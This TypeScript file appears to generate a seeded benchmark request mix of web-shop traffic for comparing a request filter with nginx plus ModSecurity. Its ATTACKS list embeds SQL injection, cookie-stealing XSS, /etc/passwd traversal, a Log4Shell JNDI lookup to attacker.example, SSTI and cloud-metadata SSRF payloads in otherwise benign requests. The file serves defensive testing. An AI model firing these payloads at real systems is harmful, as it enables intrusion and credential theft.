/**
 * The benchmark's request mix: what a web shop's API and pages receive, deterministic from a
 * seed so that shadowtap and nginx + ModSecurity see exactly the same requests.
 *
 * Per 100 requests: 50 GETs with query parameters, 25 JSON POSTs, 12 form posts, 8 multipart
 * uploads (a few KiB each) and 5 attacks (SQLi, XSS, path traversal, Log4Shell, SSTI, SSRF),
 * each attack hidden in one of the benign shapes.
 */

import { prng } from './prng.js';

/** One request, as the load generator sends it (HTTP/1.1 or h2c). */
export interface MixRequest {
  method: 'GET' | 'POST';
  path: string;
  headers: Record<string, string>;
  body?: string;
  /** What the request is, for the report: get | json | form | multipart, and attack:<class>. */
  kind: string;
}

const WORDS = [
  'shoes',
  'running',
  'blue',
  'jacket',
  'winter',
  'sale',
  'kids',
  'leather',
  'bag',
  'socks',
  'hat',
  'wool',
];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'shop-app/3.2.1 (iPhone; iOS 17.4)',
];

const ATTACKS: Array<{ cls: string; payload: string }> = [
  { cls: 'sqli', payload: "1' UNION SELECT username, password FROM users--" },
  { cls: 'sqli', payload: "x' OR '1'='1" },
  { cls: 'xss', payload: '<script>alert(document.cookie)</script>' },
  { cls: 'xss', payload: '"><img src=x onerror=alert(1)>' },
  { cls: 'path_traversal', payload: '../../../../etc/passwd' },
  { cls: 'log4shell', payload: '${jndi:ldap://attacker.example/a}' },
  { cls: 'ssti', payload: '{{7*7}}{{config.__class__.__init__.__globals__}}' },
  { cls: 'ssrf', payload: 'http://169.254.169.254/latest/meta-data/iam/' },
];

/** Builds `count` requests for `host`: exactly 5% attacks, at seeded positions. */
export function loadMix(opts: { host: string; count?: number; seed?: number }): MixRequest[] {
  const count = opts.count ?? 400;
  const rnd = prng(opts.seed ?? 42);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
  const words = (n: number): string => Array.from({ length: n }, () => pick(WORDS)).join(' ');

  const baseHeaders = (): Record<string, string> => ({
    host: opts.host,
    'user-agent': pick(AGENTS),
    accept: 'text/html,application/json;q=0.9,*/*;q=0.8',
    'accept-language': 'en-GB,en;q=0.8,fr;q=0.6',
    cookie: `session=${int(1e8, 9e8).toString(36)}${int(1e8, 9e8).toString(36)}; theme=dark; consent=1`,
  });

  const get = (value?: string): MixRequest => ({
    method: 'GET',
    path: `/products/search?q=${encodeURIComponent(value ?? words(int(1, 3)))}&category=${pick(WORDS)}&page=${int(1, 20)}&sort=price&size=${int(36, 46)}`,
    headers: baseHeaders(),
    kind: 'get',
  });
  const json = (value?: string): MixRequest => {
    const body = JSON.stringify({
      customer: { id: int(1, 1e6), name: 'Jane Doe', email: 'jane@example.com' },
      items: Array.from({ length: int(1, 8) }, () => ({
        sku: `SKU-${int(1000, 9999)}`,
        qty: int(1, 4),
        note: words(int(2, 12)),
      })),
      shipping: { street: '12 High Street', city: 'London', postcode: 'SW1A 1AA' },
      comment: value ?? words(int(4, 30)),
    });
    return {
      method: 'POST',
      path: '/api/v1/orders',
      headers: { ...baseHeaders(), 'content-type': 'application/json' },
      body,
      kind: 'json',
    };
  };
  const form = (value?: string): MixRequest => {
    const body = new URLSearchParams({
      username: `user${int(1, 99999)}`,
      password: `pw-${int(1e6, 9e6)}`,
      remember: 'on',
      redirect: value ?? `/account/orders?page=${int(1, 5)}`,
      csrf: int(1e9, 9e9).toString(16),
    }).toString();
    return {
      method: 'POST',
      path: '/account/login',
      headers: { ...baseHeaders(), 'content-type': 'application/x-www-form-urlencoded' },
      body,
      kind: 'form',
    };
  };
  const multipart = (value?: string): MixRequest => {
    const boundary = `----shadowtapbench${int(1e8, 9e8)}`;
    const file = Buffer.alloc(int(2048, 12288), 'PNGDATA-').toString('latin1');
    const body = [
      `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n${value ?? words(3)}\r\n`,
      `--${boundary}\r\nContent-Disposition: form-data; name="description"\r\n\r\n${words(int(5, 40))}\r\n`,
      `--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="img${int(1, 999)}.png"\r\nContent-Type: image/png\r\n\r\n${file}\r\n`,
      `--${boundary}--\r\n`,
    ].join('');
    return {
      method: 'POST',
      path: '/api/v1/reviews/upload',
      headers: { ...baseHeaders(), 'content-type': `multipart/form-data; boundary=${boundary}` },
      body,
      kind: 'multipart',
    };
  };

  const benign = (): MixRequest => {
    const r = rnd() * 95;
    return r < 50 ? get() : r < 75 ? json() : r < 87 ? form() : multipart();
  };
  const attack = (i: number): MixRequest => {
    const { cls, payload } = ATTACKS[i % ATTACKS.length]!;
    // Log4Shell travels in a header, as it does in the wild; the rest in a parameter or body.
    if (cls === 'log4shell')
      return { ...get(), headers: { ...baseHeaders(), 'x-api-version': payload }, kind: `attack:${cls}` };
    const shape = pick([get, json, form, multipart]);
    return { ...shape(payload), kind: `attack:${cls}` };
  };

  const attacks = Math.round(count * 0.05);
  const attackAt = new Set<number>();
  while (attackAt.size < attacks) attackAt.add(Math.floor(rnd() * count));
  let a = 0;
  return Array.from({ length: count }, (_, i) => (attackAt.has(i) ? attack(a++) : benign()));
}

/** Counts by kind, for the report's notes. */
export function mixSummary(mix: readonly MixRequest[]): Record<string, number> {
  const out: Record<string, number> = {};
  for (const r of mix) {
    const k = r.kind.startsWith('attack:') ? 'attack' : r.kind;
    out[k] = (out[k] ?? 0) + 1;
  }
  return out;
}
